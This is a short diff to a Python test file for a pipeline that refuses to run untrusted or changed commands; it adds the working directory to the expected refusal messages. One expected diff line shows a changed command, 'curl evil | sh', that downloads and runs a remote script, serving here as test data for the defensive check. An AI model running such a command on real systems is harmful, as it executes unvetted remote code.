@@ -144,6 +144,7 @@ def test_the_refusal_says_what_would_run_and_how_to_go_on(file):
     assert caught.value.surface_hash == HASH
     assert str(caught.value).splitlines() == [
         f"{file} runs 2 commands (hash {digits}) that nobody has trusted yet",
+        f"commands run in {Path.cwd()}",
         '  build  tool_command  touch "$ATTRACTOR_LOGS_ROOT/../built"',
         "  check  tool_command  true",
         (
@@ -198,7 +199,7 @@ def test_a_changed_command_is_asked_about_with_a_diff(file):
     with pytest.raises(UntrustedSource, match="they are not those that were trusted before") as caught:
         Pipeline(file).run()
     lines = str(caught.value).splitlines()
-    assert lines[1:3] == ["  --- trusted before", "  +++ now"]
+    assert lines[1:4] == [f"commands run in {Path.cwd()}", "  --- trusted before", "  +++ now"]
     assert "  -  | true" in lines
     assert "  +  | curl evil | sh" in lines
 
